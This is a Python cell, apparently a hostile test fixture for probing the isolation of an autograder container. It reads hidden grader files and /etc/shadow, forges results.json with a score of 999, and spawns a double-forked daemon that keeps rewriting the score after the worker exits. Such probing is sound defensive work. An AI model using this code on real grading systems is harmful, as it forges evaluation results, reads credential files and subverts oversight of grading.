# A hostile cell for gradescope_container.py, appended to a submission: in every worker it tries to read the
# graders, to write /autograder/results/results.json itself (now, at exit, and from a daemon that outlives
# the worker), leaves a marker in /tmp for the next worker to find, and writes what it managed to
# /hostile-notes/gradekit-hostile-*.json (a folder the script adds to the container to read them afterwards).
import atexit as _atexit
import glob as _glob
import json as _json
import os as _os
import time as _time

_HOSTILE_RESULTS = "/autograder/results/results.json"
_HOSTILE_FORGED = {"score": 999.0, "output": "forged by the submission", "tests": [
    {"name": "forged", "score": 999.0, "max_score": 1.0, "status": "passed", "visibility": "visible"}]}
_HOSTILE_TARGETS = sorted(_glob.glob("/autograder/source/graders/*/hidden/*")) + [
    "/autograder/source/graders", "/autograder/run_autograder", "/etc/shadow"]
_HOSTILE_DAEMON_SECONDS = 300


def _hostile_read(path):
    """Bytes read from `path` (entries, for a folder), or the error that stopped it."""
    try:
        if _os.path.isdir(path):
            return len(_os.listdir(path))
        with open(path, "rb") as handle:
            return len(handle.read())
    except OSError as error:
        return type(error).__name__


def _hostile_forge():
    """Write the forged results.json; 'ok' or the error that stopped it."""
    try:
        with open(_HOSTILE_RESULTS, "w") as handle:
            _json.dump(_HOSTILE_FORGED, handle)
        return "ok"
    except OSError as error:
        return type(error).__name__


def _hostile_note(name, data):
    """Leave what this process saw where the script reads it, and a marker in the shared /tmp."""
    try:
        with open(f"/hostile-notes/gradekit-hostile-{name}.json", "w") as handle:
            _json.dump(data, handle)
        with open(f"/tmp/gradekit-hostile-marker-{name}", "w") as handle:
            handle.write(str(_os.getpid()))
    except OSError:
        pass


def _hostile_markers():
    """The markers other processes left in /tmp, each with whether its writer was still running (a call of the same
    submission at the same time) or gone (a leftover, that the pool should have removed with its worker)."""
    found = []
    for entry in sorted(_os.listdir("/tmp")):
        if entry.startswith("gradekit-hostile-marker-"):
            try:
                with open(f"/tmp/{entry}") as handle:
                    writer = int(handle.read())
                found.append([entry, _os.path.exists(f"/proc/{writer}"), writer])
            except (OSError, ValueError):
                found.append([entry, None, None])
    return found


def _hostile_daemon():
    """Double fork into a new session, then keep rewriting results.json and noting each try, and how long it has
    outlived the worker that started it."""
    worker = _os.getpid()
    if _os.fork() != 0:
        return
    try:
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        started = _time.time()
        note = {"pid": _os.getpid(), "uid": _os.getuid(), "worker": worker, "started": started, "beats": 0,
                "forged": [], "grader_results_seen": False, "worker_gone": None, "beats_after_worker": 0}
        while _time.time() - started < _HOSTILE_DAEMON_SECONDS:
            note["beats"] += 1
            note["last"] = _time.time()
            if not _os.path.exists(f"/proc/{worker}"):
                note["worker_gone"] = note["worker_gone"] or note["last"]
                note["beats_after_worker"] += 1
            note["forged"] = sorted(set(note["forged"]) | {_hostile_forge()})
            try:
                with open(_HOSTILE_RESULTS) as handle:
                    note["grader_results_seen"] |= "forged" not in handle.read()
            except (OSError, ValueError):
                pass
            _hostile_note(f"daemon-{note['pid']}", note)
            _time.sleep(0.2)
    finally:
        _os._exit(0)


_hostile_note(f"worker-{_os.getpid()}", {
    "pid": _os.getpid(), "uid": _os.getuid(), "time": _time.time(), "cwd": _os.getcwd(),
    "read": {path: _hostile_read(path) for path in _HOSTILE_TARGETS},
    "tmp_entries": _hostile_markers(),
    "forged": _hostile_forge()})
_atexit.register(_hostile_forge)
_hostile_daemon()
